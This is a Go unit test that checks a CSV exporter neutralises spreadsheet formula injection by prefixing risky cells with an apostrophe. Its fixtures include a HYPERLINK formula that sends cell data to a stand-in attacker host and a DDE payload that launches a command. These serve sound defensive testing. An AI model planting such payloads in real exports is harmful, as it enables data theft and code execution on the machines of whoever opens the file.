package policy

import (
	"strings"
	"testing"
)

// TestCSVCellsCannotBeFormulas: a text cell that a spreadsheet would read as a formula (it
// starts with =, +, -, @, a tab or a carriage return) is written with a leading apostrophe, so
// opening the export runs nothing; other cells are written as they are.
func TestCSVCellsCannotBeFormulas(t *testing.T) {
	t.Parallel()
	p := &ExportProblem{ID: "TDB-1", Proposer: "@ada", Revision: ExportRevision{
		Title:     `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		Statement: "+cmd|' /C calc'!A0",
	}}
	p.Revision.Provenance.Kind = "-2+3"
	row := csvRow(p)
	for i, c := range row {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("cell %d (%s) = %q starts a formula", i, ExportCSVColumns[i], c)
		}
	}
	for _, c := range []struct{ in, want string }{
		{`=1+1`, `'=1+1`}, {"@SUM(A1)", "'@SUM(A1)"}, {"-1", "'-1"}, {"+1", "'+1"}, {"\tx", "'\tx"},
		{"A plain title", "A plain title"}, {"", ""}, {`{"a":1}`, `{"a":1}`},
	} {
		if got := csvCell(c.in); got != c.want {
			t.Errorf("csvCell(%q) = %q; want %q", c.in, got, c.want)
		}
	}
}
